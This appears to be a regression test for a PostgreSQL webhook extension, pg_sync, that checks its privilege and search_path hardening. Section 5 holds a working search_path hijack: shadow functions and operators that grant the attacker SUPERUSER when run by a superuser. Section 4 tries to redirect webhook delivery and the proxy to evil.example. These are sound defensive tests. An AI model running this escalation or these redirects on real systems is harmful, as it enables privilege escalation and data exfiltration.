-- Privileges under attack. A writer with nothing but INSERT on a tracked table cannot read the
-- queue, the configuration or the secrets, cannot forge, change or delete queue rows or dead
-- letters, cannot attach anything to pg_sync's tables or schema, cannot call any configuration
-- function, and cannot escalate through search_path: it plants shadows of the functions and
-- operators pg_sync's code uses (each would log itself and make its caller a superuser), then
-- every privileged path runs with them first in search_path, and none is ever called.
-- Monitors see the status views and nothing else. (privileges holds the everyday checks.)
--
--   1. roles and fixtures          2. SECURITY DEFINER functions pin search_path
--   3. the privilege matrix        4. the writer: no reads, no forgery, no DDL, no functions
--   5. search_path escalation      6. a table owner's decoy trigger and its DDL on pg_sync's
--   7. the monitor                 8. final state, clean up
\set SHOW_CONTEXT never
-- Tests share one database: start from a clean slate if an earlier test left the extension.
SET client_min_messages = warning;
DROP EXTENSION IF EXISTS pg_sync CASCADE;
DROP SCHEMA IF EXISTS ph, ph_evil CASCADE;
RESET client_min_messages;
CREATE EXTENSION pg_sync;

-- ==========================================================================================
-- 1. Roles and fixtures

CREATE ROLE regress_ph_writer LOGIN;            -- INSERT on ph.orders, nothing else
CREATE ROLE regress_ph_monitor LOGIN IN ROLE pgsync_monitor;
CREATE ROLE regress_ph_admin LOGIN IN ROLE pgsync_admin;
CREATE ROLE regress_ph_owner LOGIN;             -- owns a table, is not an admin
CREATE SCHEMA ph;
GRANT USAGE ON SCHEMA ph TO PUBLIC;
CREATE TABLE ph.orders (id int PRIMARY KEY, status text);
GRANT INSERT ON ph.orders TO regress_ph_writer;
CREATE TABLE ph.admin_items (id int PRIMARY KEY, name text, qty int);
ALTER TABLE ph.admin_items OWNER TO regress_ph_admin;
-- The writer's own schema: where it plants its shadows.
CREATE SCHEMA ph_evil AUTHORIZATION regress_ph_writer;

-- The endpoint: header values and a secret that nobody but its owner may read back.
SELECT pg_sync.create_endpoint('ph-hook', 'https://example.com/hooks/ph',
       headers => '{"Authorization": "Bearer s3cr3t-t0ken", "X-Tenant": "tenant-7f3a"}',
       secret => 'whsec_' || encode(convert_to('0123456789abcdef0123456789abcdef', 'UTF8'), 'base64'));
-- The filter uses lower() and <>, two things the writer will shadow.
SELECT pg_sync.track('ph.orders', 'ph-hook', filter => $$lower(NEW.status) <> 'skip'$$);
-- A dead letter, a delivery state and a recent attempt, as the delivery worker leaves them.
INSERT INTO pg_sync._dead_letters (id, endpoint_id, op, tbl, key, new_row, txid, captured_at,
                                   attempts, last_status, last_error, dead_at)
SELECT -1, e.id, 'insert', 'ph.orders', '{"id": 0}', '{"id": 0, "status": "dead"}', '1',
       '2026-01-01 00:00:00+00', 10, 500, 'HTTP 500', '2026-01-02 00:00:00+00'
  FROM pg_sync._endpoints e WHERE e.name = 'ph-hook';
INSERT INTO pg_sync._endpoint_state (endpoint_id, failed_attempts_total, last_error, last_status)
SELECT e.id, 10, 'HTTP 500', 500 FROM pg_sync._endpoints e WHERE e.name = 'ph-hook';
INSERT INTO pg_sync._attempts (slot, endpoint_id, started_at, finished_at, events, status, error)
SELECT 0, e.id, '2026-01-01 00:00:00+00', '2026-01-01 00:00:01+00', 1, 500, 'HTTP 500'
  FROM pg_sync._endpoints e WHERE e.name = 'ph-hook';
-- What the queue holds, for the superuser only.
CREATE VIEW ph.queue AS
SELECT q.id, e.name AS endpoint, q.op, q.tbl, q.key::text AS key, q.emit_type, q.new_row::text AS new_row
  FROM pg_sync._queue q JOIN pg_sync._endpoints e ON e.id = q.endpoint_id;

-- ==========================================================================================
-- 2. Every SECURITY DEFINER function of pg_sync pins search_path to pg_catalog, pg_temp (so the
-- caller's search_path is never used), belongs to the extension's owner and is not executable
-- by PUBLIC.

SELECT p.oid::regprocedure AS security_definer_function, p.proconfig
  FROM pg_proc p
 WHERE p.pronamespace = 'pg_sync'::regnamespace AND p.prosecdef
 ORDER BY p.oid::regprocedure::text COLLATE "C";
SELECT count(*) AS security_definer_functions,
       bool_and(p.proconfig @> ARRAY['search_path=pg_catalog, pg_temp']) AS all_pin_search_path,
       bool_and(p.proowner = x.extowner) AS all_owned_by_extension_owner,
       bool_and(NOT has_function_privilege('public', p.oid, 'EXECUTE')) AS none_executable_by_public
  FROM pg_proc p, pg_extension x
 WHERE x.extname = 'pg_sync' AND p.pronamespace = 'pg_sync'::regnamespace AND p.prosecdef;
-- The helpers they call pin it too; only C functions (which resolve nothing by name) do not.
SELECT p.oid::regprocedure AS unpinned_function, l.lanname, p.prosecdef
  FROM pg_proc p JOIN pg_language l ON l.oid = p.prolang
 WHERE p.pronamespace = 'pg_sync'::regnamespace
   AND NOT coalesce(p.proconfig @> ARRAY['search_path=pg_catalog, pg_temp'], false)
 ORDER BY p.oid::regprocedure::text COLLATE "C";

-- ==========================================================================================
-- 3. The privilege matrix of everything in schema pg_sync. The policy: writers and PUBLIC
-- nothing; monitors SELECT on the views, EXECUTE on health(), _workers(), _worker_status(), _sees_data(),
-- _url_origin(), _error_class(), _shown_error() and _cert_not_after() (behind the views); admins what monitors have, plus EXECUTE on the functions without a leading
-- underscore. No role holds any other privilege on a pg_sync table, sequence or function, and
-- nobody but the owner may create in the schema. Violations of that policy (none expected):

CREATE TEMP VIEW ph_matrix AS
SELECT r.rolname, c.oid::regclass::text AS object, c.relkind::text AS kind, p.priv
  FROM pg_class c
 CROSS JOIN (VALUES ('PUBLIC'), ('regress_ph_writer'), ('regress_ph_monitor'), ('regress_ph_admin')) r(rolname)
 CROSS JOIN unnest(ARRAY['SELECT', 'INSERT', 'UPDATE', 'DELETE', 'TRUNCATE', 'REFERENCES', 'TRIGGER']) p(priv)
 WHERE c.relnamespace = 'pg_sync'::regnamespace AND c.relkind IN ('r', 'p', 'v', 'm', 'S', 'f')
   AND has_table_privilege(lower(r.rolname), c.oid, p.priv)
UNION ALL
SELECT r.rolname, c.oid::regclass::text, 'S', 'USAGE'
  FROM pg_class c CROSS JOIN (VALUES ('PUBLIC'), ('regress_ph_writer'), ('regress_ph_monitor'), ('regress_ph_admin')) r(rolname)
 WHERE c.relnamespace = 'pg_sync'::regnamespace AND c.relkind = 'S'
   AND has_sequence_privilege(lower(r.rolname), c.oid, 'USAGE')
UNION ALL
SELECT r.rolname, p.oid::regprocedure::text, 'function', 'EXECUTE'
  FROM pg_proc p CROSS JOIN (VALUES ('PUBLIC'), ('regress_ph_writer'), ('regress_ph_monitor'), ('regress_ph_admin')) r(rolname)
 WHERE p.pronamespace = 'pg_sync'::regnamespace AND p.prokind = 'f'
   AND has_function_privilege(lower(r.rolname), p.oid, 'EXECUTE')
UNION ALL
SELECT r.rolname, 'schema pg_sync', 'schema', 'CREATE'
  FROM (VALUES ('PUBLIC'), ('regress_ph_writer'), ('regress_ph_monitor'), ('regress_ph_admin')) r(rolname)
 WHERE has_schema_privilege(lower(r.rolname), 'pg_sync', 'CREATE');

SELECT rolname, object, kind, priv AS violation FROM ph_matrix m
 WHERE NOT (rolname IN ('regress_ph_monitor', 'regress_ph_admin') AND kind = 'v' AND priv = 'SELECT')
   AND NOT (rolname IN ('regress_ph_monitor', 'regress_ph_admin') AND kind = 'function'
            AND object IN ('pg_sync.health()', 'pg_sync._workers()', 'pg_sync._worker_status()', 'pg_sync._sees_data()',
                           'pg_sync._url_origin(text)', 'pg_sync._error_class(text)',
                           'pg_sync._shown_error(text)', 'pg_sync._pending(integer,boolean)',
                           'pg_sync._cert_not_after(text)'))
   AND NOT (rolname = 'regress_ph_admin' AND kind = 'function' AND object !~ '^pg_sync\._')
 ORDER BY rolname COLLATE "C", object COLLATE "C", priv COLLATE "C";
-- What each role may do, as the policy allows it (the writer and PUBLIC: nothing).
SELECT * FROM (
    SELECT object, min(priv) AS privilege,
           bool_or(rolname = 'PUBLIC') AS "public", bool_or(rolname = 'regress_ph_writer') AS writer,
           bool_or(rolname = 'regress_ph_monitor') AS monitor, bool_or(rolname = 'regress_ph_admin') AS admin
      FROM ph_matrix GROUP BY object) m
 ORDER BY privilege COLLATE "C" DESC, object COLLATE "C";

-- ==========================================================================================
-- 4. The writer (INSERT on ph.orders, nothing else). Its changes are captured although it has
-- no right on pg_sync at all ...

SET SESSION AUTHORIZATION regress_ph_writer;
SELECT session_user, current_user;
INSERT INTO ph.orders VALUES (1, 'new'), (2, 'SKIP');

-- ... but it cannot read the queue, the configuration, the secrets or the header values, not
-- even through the views,
SELECT * FROM pg_sync._queue;
SELECT secret FROM pg_sync._endpoints;
SELECT headers ->> 'Authorization' FROM pg_sync._endpoints;
SELECT * FROM pg_sync._dead_letters;
SELECT * FROM pg_sync._tracked;
SELECT * FROM pg_sync._endpoint_state;
SELECT * FROM pg_sync._attempts;
SELECT * FROM pg_sync.endpoints;
SELECT * FROM pg_sync.dead_letters;
SELECT * FROM pg_sync.recent_attempts;
SELECT * FROM pg_sync.endpoint_status;
SELECT * FROM pg_sync.tracked_tables;
SELECT * FROM pg_sync.workers;
COPY pg_sync._endpoints TO stdout;
COPY (SELECT secret FROM pg_sync._endpoints) TO stdout;
SELECT count(*) AS visible_stats FROM pg_stats WHERE schemaname = 'pg_sync';

-- cannot forge, change or delete queue rows, dead letters or endpoints,
INSERT INTO pg_sync._queue (endpoint_id, op, tbl, key, new_row)
SELECT 1, 'insert', 'ph.orders', '{"id": 1}', '{"id": 1, "status": "forged"}';
INSERT INTO pg_sync._dead_letters (id, endpoint_id, op, tbl, key, new_row, txid, captured_at, attempts)
VALUES (-99, 1, 'insert', 'ph.orders', '{"id": 1}', '{"status": "forged"}', '1', now(), 1);
UPDATE pg_sync._queue SET new_row = '{"status": "forged"}';
UPDATE pg_sync._endpoints SET url = 'https://evil.example/';
UPDATE pg_sync._endpoint_state SET next_attempt_at = 'infinity';
DELETE FROM pg_sync._queue;
DELETE FROM pg_sync._dead_letters;
TRUNCATE pg_sync._queue;
TRUNCATE pg_sync._tracked;
SELECT nextval('pg_sync._queue_id_seq');
SELECT setval('pg_sync._queue_id_seq', 1);
BEGIN;
LOCK TABLE pg_sync._queue IN ACCESS EXCLUSIVE MODE;
ROLLBACK;
GRANT SELECT ON pg_sync._endpoints TO regress_ph_writer;

-- cannot attach anything to pg_sync's tables or schema (a trigger on the queue would see every
-- event; an overload in schema pg_sync could capture calls made there),
CREATE FUNCTION ph_evil.forge() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$;
CREATE TRIGGER forge BEFORE INSERT ON pg_sync._queue FOR EACH ROW EXECUTE FUNCTION ph_evil.forge();
CREATE TRIGGER forge BEFORE UPDATE ON pg_sync._endpoints FOR EACH ROW EXECUTE FUNCTION ph_evil.forge();
CREATE TRIGGER forge AFTER INSERT ON pg_sync._dead_letters FOR EACH ROW EXECUTE FUNCTION ph_evil.forge();
CREATE TRIGGER forge AFTER INSERT ON pg_sync._tracked FOR EACH ROW EXECUTE FUNCTION ph_evil.forge();
CREATE RULE forge AS ON INSERT TO pg_sync._queue DO ALSO NOTHING;
CREATE POLICY forge ON pg_sync._endpoints USING (true);
ALTER TABLE pg_sync._queue ADD COLUMN forged text;
ALTER TABLE pg_sync._endpoints OWNER TO regress_ph_writer;
CREATE INDEX forge ON pg_sync._queue (op);
COMMENT ON TABLE pg_sync._queue IS 'forged';
CREATE TABLE pg_sync.forge (id int);
CREATE VIEW pg_sync.forge AS SELECT 1;
CREATE FUNCTION pg_sync._require(value text, what text) RETURNS void LANGUAGE sql AS '';
CREATE OPERATOR pg_sync.= (LEFTARG = text, RIGHTARG = text, FUNCTION = pg_catalog.texteq);
ALTER EXTENSION pg_sync ADD FUNCTION ph_evil.forge();

-- cannot switch capture off, on the table or in its session,
CREATE TRIGGER forge BEFORE INSERT ON ph.orders FOR EACH ROW EXECUTE FUNCTION ph_evil.forge();
ALTER TABLE ph.orders DISABLE TRIGGER pg_sync_capture;
DROP TRIGGER pg_sync_capture ON ph.orders;
SET session_replication_role = replica;
ALTER ROLE regress_ph_writer SET session_replication_role = replica;

-- cannot change pg_sync's settings or become an admin,
SET pg_sync.allow_private_targets = on;
ALTER SYSTEM SET pg_sync.http_proxy = 'http://evil.example:3128';
ALTER ROLE regress_ph_writer SET pg_sync.allow_private_targets = on;
SET ROLE pgsync_admin;
SET ROLE pgsync_monitor;
GRANT pgsync_admin TO regress_ph_writer;

-- and cannot call any configuration function (emit included, until an admin grants it), nor
-- any internal one, directly or from a DO block.
SELECT pg_sync.create_endpoint('evil', 'https://evil.example/');
SELECT pg_sync.alter_endpoint('ph-hook', url => 'https://evil.example/');
SELECT pg_sync.drop_endpoint('ph-hook', force => true);
SELECT pg_sync.pause_endpoint('ph-hook');
SELECT pg_sync.resume_endpoint('ph-hook');
SELECT pg_sync.track('ph.orders', 'ph-hook', filter => 'false');
SELECT pg_sync.untrack('ph.orders');
SELECT pg_sync.redeliver();
SELECT pg_sync.purge_dead();
SELECT pg_sync.emit('ph-hook', 'forged', '{}');
SELECT pg_sync.health();
SELECT pg_sync._track('ph.orders', 'ph-hook', '{insert}', NULL, NULL, 'false', current_user::regrole);
SELECT pg_sync._endpoint_id('ph-hook');
SELECT pg_sync._sync_triggers('ph.orders');
SELECT pg_sync._capture_problem('ph.orders', NULL);
SELECT pg_sync._quote('x');
SELECT pg_sync._no_endpoint('x');
SELECT pg_sync._reconcile('ph.orders');
SELECT pg_sync._check_filter('ph.orders', 'true', current_user::regrole, '{}');
SELECT pg_sync._check_endpoint('x', 'https://x.example/', '{}', NULL, 1, 1, 100, 1, 1, 1, NULL);
SELECT pg_sync._require(1, 'x');
SELECT pg_sync._primary_key('ph.orders');
SELECT * FROM pg_sync._resolve_columns('ph.orders', '{id}', 'columns');
SELECT pg_sync._current_name('ph.orders', 'id', 1::int2);
SELECT pg_sync._config_changed();
SELECT pg_sync._wake(true);
SELECT pg_sync._request_worker();
SELECT * FROM pg_sync._workers();
SELECT pg_sync._capture();
DO $$ BEGIN PERFORM pg_sync.create_endpoint('evil', 'https://evil.example/'); END $$;
RESET SESSION AUTHORIZATION;

-- Nothing was read, forged or lost: only the writer's own change was captured, and the filter
-- left out 'SKIP'.
SELECT endpoint, op, tbl, key, new_row FROM ph.queue ORDER BY id;
SELECT name, url, batch_size, paused, secret IS NOT NULL AS has_secret, headers ->> 'X-Tenant' AS tenant
  FROM pg_sync._endpoints;
SELECT id, op, new_row::text FROM pg_sync._dead_letters;
SELECT tbl, events, filter FROM pg_sync._tracked;
SELECT tgrelid::regclass, tgname, tgenabled FROM pg_trigger
 WHERE NOT tgisinternal AND tgrelid::regclass::text LIKE 'p%' AND tgrelid::regclass::text NOT LIKE 'pg_sync.%' ORDER BY tgrelid::regclass::text COLLATE "C", tgname COLLATE "C";

-- ==========================================================================================
-- 5. search_path escalation. The writer plants, in its own schema, shadows of what pg_sync's
-- SECURITY DEFINER code calls: functions with the same or a better-matching signature (text
-- instead of anyelement, regclass instead of oid), aggregates and operators. Each shadow calls
-- ph_evil.pwn(), which leaves a NOTICE and a row in ph_evil.hijack_log, and, if it runs as a
-- superuser, makes the writer one. Then every privileged path runs with the shadows first in
-- search_path: none may be called.

SET SESSION AUTHORIZATION regress_ph_writer;
CREATE TABLE ph_evil.hijack_log (what text, ran_as text);
GRANT USAGE ON SCHEMA ph_evil TO PUBLIC;
GRANT INSERT ON ph_evil.hijack_log TO PUBLIC;
CREATE FUNCTION ph_evil.pwn(what text) RETURNS void LANGUAGE plpgsql
SET search_path = pg_catalog, pg_temp AS $$
BEGIN
    RAISE NOTICE 'HIJACKED: % ran as %', what, current_user;
    INSERT INTO ph_evil.hijack_log VALUES (what, current_user);
    IF (SELECT r.rolsuper FROM pg_roles r WHERE r.rolname = current_user) THEN
        ALTER ROLE regress_ph_writer SUPERUSER;
    END IF;
END
$$;
-- Functions.
CREATE FUNCTION ph_evil.lower(text) RETURNS text LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('lower'); RETURN 'skip'; END $$;
CREATE FUNCTION ph_evil.upper(text) RETURNS text LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('upper'); RETURN 'INSERT'; END $$;
CREATE FUNCTION ph_evil.btrim(text) RETURNS text LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('btrim'); RETURN 'x'; END $$;
CREATE FUNCTION ph_evil.length(text) RETURNS int LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('length'); RETURN 1; END $$;
CREATE FUNCTION ph_evil.cardinality(text[]) RETURNS int LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('cardinality'); RETURN 1; END $$;
CREATE FUNCTION ph_evil.array_position(text[], text) RETURNS int LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('array_position(text[])'); RETURN NULL; END $$;
CREATE FUNCTION ph_evil.array_position(bigint[], bigint) RETURNS int LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('array_position(bigint[])'); RETURN NULL; END $$;
CREATE FUNCTION ph_evil.unnest(text[]) RETURNS SETOF text LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('unnest'); RETURN NEXT 'insert'; END $$;
CREATE FUNCTION ph_evil.format(text, regclass) RETURNS text LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('format(text, regclass)'); RETURN 'SELECT 1'; END $$;
CREATE FUNCTION ph_evil.format(text, text, regclass) RETURNS text LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('format(text, text, regclass)'); RETURN 'SELECT 1'; END $$;
CREATE FUNCTION ph_evil.to_json(text) RETURNS json LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('to_json'); RETURN '"forged"'; END $$;
CREATE FUNCTION ph_evil.hashtext(text) RETURNS int LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('hashtext'); RETURN 0; END $$;
CREATE FUNCTION ph_evil.pg_advisory_xact_lock(int, int) RETURNS void LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('pg_advisory_xact_lock'); END $$;
CREATE FUNCTION ph_evil.now() RETURNS timestamptz LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('now'); RETURN 'epoch'; END $$;
CREATE FUNCTION ph_evil.current_setting(text) RETURNS text LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('current_setting'); RETURN '0'; END $$;
CREATE FUNCTION ph_evil.jsonb_object_keys(jsonb) RETURNS SETOF text LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('jsonb_object_keys'); RETURN NEXT 'forged'; END $$;
CREATE FUNCTION ph_evil.pg_event_trigger_ddl_commands(OUT classid oid, OUT objid oid)
RETURNS SETOF record LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('pg_event_trigger_ddl_commands'); END $$;
CREATE FUNCTION ph_evil.pg_event_trigger_dropped_objects(OUT classid oid, OUT objid oid, OUT objsubid int)
RETURNS SETOF record LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('pg_event_trigger_dropped_objects'); END $$;
CREATE FUNCTION ph_evil.pg_partition_ancestors(regclass) RETURNS TABLE (relid regclass) LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('pg_partition_ancestors'); END $$;
CREATE FUNCTION ph_evil.pg_partition_tree(regclass) RETURNS TABLE (relid regclass) LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('pg_partition_tree'); END $$;
CREATE FUNCTION ph_evil.array_ndims(text[]) RETURNS int LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('array_ndims(text[])'); RETURN 1; END $$;
CREATE FUNCTION ph_evil.array_ndims(bigint[]) RETURNS int LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('array_ndims(bigint[])'); RETURN 1; END $$;
CREATE FUNCTION ph_evil.set_config(text, text, bool) RETURNS text LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('set_config'); RETURN 'off'; END $$;
CREATE FUNCTION ph_evil.to_regclass(text) RETURNS regclass LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('to_regclass'); RETURN NULL; END $$;
-- Aggregates.
CREATE FUNCTION ph_evil.count_step(bigint) RETURNS bigint LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('count(*)'); RETURN $1 + 1; END $$;
CREATE AGGREGATE ph_evil.count(*) (SFUNC = ph_evil.count_step, STYPE = bigint, INITCOND = '0');
CREATE FUNCTION ph_evil.agg_step(text[], text) RETURNS text[] LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('array_agg(text)'); RETURN array_append($1, $2); END $$;
CREATE AGGREGATE ph_evil.array_agg(text) (SFUNC = ph_evil.agg_step, STYPE = text[]);
-- Operators.
CREATE FUNCTION ph_evil.text_eq(text, text) RETURNS bool LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('text = text'); RETURN true; END $$;
CREATE OPERATOR ph_evil.= (LEFTARG = text, RIGHTARG = text, FUNCTION = ph_evil.text_eq);
CREATE FUNCTION ph_evil.text_ne(text, text) RETURNS bool LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('text <> text'); RETURN true; END $$;
CREATE OPERATOR ph_evil.<> (LEFTARG = text, RIGHTARG = text, FUNCTION = ph_evil.text_ne);
CREATE FUNCTION ph_evil.int_eq(int, int) RETURNS bool LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('int = int'); RETURN true; END $$;
CREATE OPERATOR ph_evil.= (LEFTARG = int, RIGHTARG = int, FUNCTION = ph_evil.int_eq);
CREATE FUNCTION ph_evil.regclass_eq(regclass, regclass) RETURNS bool LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('regclass = regclass'); RETURN true; END $$;
CREATE OPERATOR ph_evil.= (LEFTARG = regclass, RIGHTARG = regclass, FUNCTION = ph_evil.regclass_eq);
CREATE FUNCTION ph_evil.interval_lt(interval, interval) RETURNS bool LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('interval < interval'); RETURN false; END $$;
CREATE OPERATOR ph_evil.< (LEFTARG = interval, RIGHTARG = interval, FUNCTION = ph_evil.interval_lt);
CREATE FUNCTION ph_evil.text_cat(text, text) RETURNS text LANGUAGE plpgsql
AS $$ BEGIN PERFORM ph_evil.pwn('text || text'); RETURN 'forged'; END $$;
CREATE OPERATOR ph_evil.|| (LEFTARG = text, RIGHTARG = text, FUNCTION = ph_evil.text_cat);

-- Control: with ph_evil first in search_path, the shadows do win over pg_catalog in plain SQL.
SET search_path = ph_evil, pg_catalog, ph;
SELECT lower('ABC') AS shadowed_lower, 'a'::text = 'b'::text AS shadowed_eq,
       'ph.orders'::regclass = 'ph.admin_items'::regclass AS shadowed_regclass_eq;
RESET search_path;
SELECT what, ran_as FROM ph_evil.hijack_log ORDER BY what COLLATE "C";
TRUNCATE ph_evil.hijack_log;

-- 5a. The writer's own session: its INSERT runs the capture trigger and the filter (lower, <>),
-- its DDL runs pg_sync's event triggers as their owner, a superuser (ALTER TABLE, DROP TABLE,
-- also of a temporary table), and emit (granted by an admin below) runs as the owner too.
SET search_path = ph_evil, pg_catalog, ph;
INSERT INTO ph.orders VALUES (3, 'new'), (4, 'Skip');
CREATE TABLE ph_evil.mine (id int PRIMARY KEY);
ALTER TABLE ph_evil.mine ADD COLUMN note text;
ALTER TABLE ph_evil.mine RENAME COLUMN note TO remark;
DROP TABLE ph_evil.mine;
CREATE TEMP TABLE pg_trigger (tgrelid oid, tgname name, tgtype int2, tgparentid oid);
CREATE TEMP TABLE mine_temp (id int);
ALTER TABLE mine_temp ADD COLUMN note text;
DROP TABLE mine_temp;
DROP TABLE pg_temp.pg_trigger;
RESET search_path;
RESET SESSION AUTHORIZATION;

SET SESSION AUTHORIZATION regress_ph_admin;
GRANT EXECUTE ON FUNCTION pg_sync.emit(text, text, jsonb, text) TO regress_ph_writer;
RESET SESSION AUTHORIZATION;
SET SESSION AUTHORIZATION regress_ph_writer;
SET search_path = ph_evil, pg_catalog, ph;
SELECT pg_sync.emit('ph-hook', 'order.note', '{"note": "hi"}', key => 'order-3') IS NOT NULL AS emitted;
-- Checks that use the shadowed functions still refuse.
SELECT pg_sync.emit('ph-hook', '   ', '{}');
SELECT pg_sync.emit('no-such-hook', 'x', '{}');
RESET search_path;
RESET SESSION AUTHORIZATION;

-- 5b. An admin session that has the writer's schema first in search_path: every
-- configuration function runs as the extension owner, none calls a shadow.
SET SESSION AUTHORIZATION regress_ph_admin;
SET search_path = ph_evil, pg_catalog, ph;
SELECT pg_sync.create_endpoint('admin-hook', 'https://example.com/hooks/admin', headers => '{"X-Team": "blue"}');
SELECT pg_sync.alter_endpoint('admin-hook', batch_size => 7, retry_max_ms => 60000);
SELECT pg_sync.pause_endpoint('admin-hook');
SELECT pg_sync.resume_endpoint('admin-hook');
SELECT pg_sync.track('ph.admin_items', 'admin-hook', events => '{INSERT,update}', columns => '{id,name,qty}',
                     filter => $$lower(NEW.name) <> 'skip'$$);
SELECT pg_sync.emit('admin-hook', 'admin.event', '{"a": 1}', key => 'k1') IS NOT NULL AS emitted;
SELECT pg_sync.redeliver('admin-hook');
SELECT pg_sync.purge_dead('admin-hook', older_than => '1 day');
SELECT * FROM pg_sync.health();
-- The input checks are not fooled: each would pass if its shadow were called.
SELECT pg_sync.track('ph.admin_items', 'admin-hook', events => '{upsert}');
SELECT pg_sync.track('ph.admin_items', 'admin-hook', events => '{}');
SELECT pg_sync.track('ph.admin_items', 'admin-hook', columns => '{id,id}');
SELECT pg_sync.track('ph.admin_items', 'admin-hook', filter => ' ');
SELECT pg_sync.track('ph.orders', 'admin-hook');
SELECT pg_sync.create_endpoint('admin-hook', 'https://example.com/again');
SELECT pg_sync.emit('admin-hook', repeat('t', 201), '{}');
SELECT pg_sync.purge_dead('admin-hook', older_than => '-1 day');
SELECT pg_sync.redeliver('admin-hook', ids => '{1,NULL}');
SELECT pg_sync.untrack('ph.admin_items', 'no-such-hook');
SELECT pg_sync.drop_endpoint('no-such-hook');
INSERT INTO ph.admin_items VALUES (1, 'one', 1), (2, 'SKIP', 2);
RESET search_path;
RESET SESSION AUTHORIZATION;
SELECT endpoint, op, tbl, key, emit_type, new_row FROM ph.queue WHERE endpoint = 'admin-hook' ORDER BY id;
SELECT name, header_names, batch_size, retry_max_ms, paused FROM pg_sync.endpoints WHERE name = 'admin-hook';
SELECT "table", endpoint, events, columns, filter FROM pg_sync.tracked_tables WHERE endpoint = 'admin-hook';

-- 5c. A superuser session (say, a DBA running a migration) with the same search_path: DDL on
-- tracked tables runs pg_sync's event triggers and reconciliation; untrack and drop_endpoint
-- drop triggers.
SET search_path = ph_evil, pg_catalog, ph;
ALTER TABLE ph.admin_items ADD COLUMN extra int;
ALTER TABLE ph.admin_items RENAME COLUMN qty TO quantity;
ALTER TABLE ph.admin_items DROP COLUMN quantity;
-- (Refused, rightly: the filter uses the column. The check ran pinned, too.)
ALTER TABLE ph.admin_items DROP COLUMN name;
CREATE TABLE ph.doomed (id int PRIMARY KEY);
SELECT pg_sync.track('ph.doomed', 'admin-hook');
DROP TABLE ph.doomed;
SELECT pg_sync.untrack('ph.admin_items', 'admin-hook');
SELECT pg_sync.track('ph.admin_items', 'admin-hook', events => '{insert}');
SELECT pg_sync.drop_endpoint('admin-hook', force => true);
RESET search_path;

-- 5d. A monitor session with the same search_path.
SET SESSION AUTHORIZATION regress_ph_monitor;
SET search_path = ph_evil, pg_catalog, ph;
SELECT * FROM pg_sync.health();
SELECT endpoint, state, pending FROM pg_sync.endpoint_status;
SELECT name, header_names, has_secret FROM pg_sync.endpoints;
RESET search_path;
RESET SESSION AUTHORIZATION;

-- No shadow ran, nobody became a superuser, and what the calls did is what they should have
-- done (the shadows would have changed the events, the filter, the keys and the counts).
SELECT count(*) AS hijacks FROM ph_evil.hijack_log;
SELECT rolname, rolsuper, pg_has_role(rolname, 'pgsync_admin', 'MEMBER') AS is_admin
  FROM pg_roles WHERE rolname = 'regress_ph_writer';
SELECT endpoint, op, tbl, key, emit_type, new_row FROM ph.queue ORDER BY id;
SELECT "table", endpoint, events, columns, filter FROM pg_sync.tracked_tables ORDER BY "table"::text COLLATE "C";

-- ==========================================================================================
-- 6. A table owner who is not an admin grants an admin what tracking needs (SELECT and
-- TRIGGER), but first plants a trigger of its own under pg_sync's trigger name; later it tries
-- to switch pg_sync's trigger off, rename, replace or drop it.

CREATE TABLE ph.owned (id int PRIMARY KEY);
ALTER TABLE ph.owned OWNER TO regress_ph_owner;
CREATE FUNCTION ph.owner_decoy() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NULL; END $$;
SET SESSION AUTHORIZATION regress_ph_owner;
CREATE TRIGGER pg_sync_capture AFTER INSERT OR UPDATE OR DELETE ON ph.owned
    FOR EACH ROW EXECUTE FUNCTION ph.owner_decoy();
GRANT SELECT, TRIGGER ON ph.owned TO regress_ph_admin;
RESET SESSION AUTHORIZATION;
SET SESSION AUTHORIZATION regress_ph_admin;
-- track() refuses a pg_sync_capture trigger that does not execute pg_sync._capture(): with the
-- same events it would keep it as if it captured, with others drop the owner's trigger.
SELECT pg_sync.track('ph.owned', 'ph-hook');
SELECT pg_sync.track('ph.owned', 'ph-hook', events => '{insert}');
SELECT "table", endpoint FROM pg_sync.tracked_tables WHERE "table" = 'ph.owned'::regclass;
RESET SESSION AUTHORIZATION;
SET SESSION AUTHORIZATION regress_ph_owner;
INSERT INTO ph.owned VALUES (1);
-- Once the owner renames its trigger, tracking works, and the owner's trigger stays.
ALTER TRIGGER pg_sync_capture ON ph.owned RENAME TO owner_trigger;
RESET SESSION AUTHORIZATION;
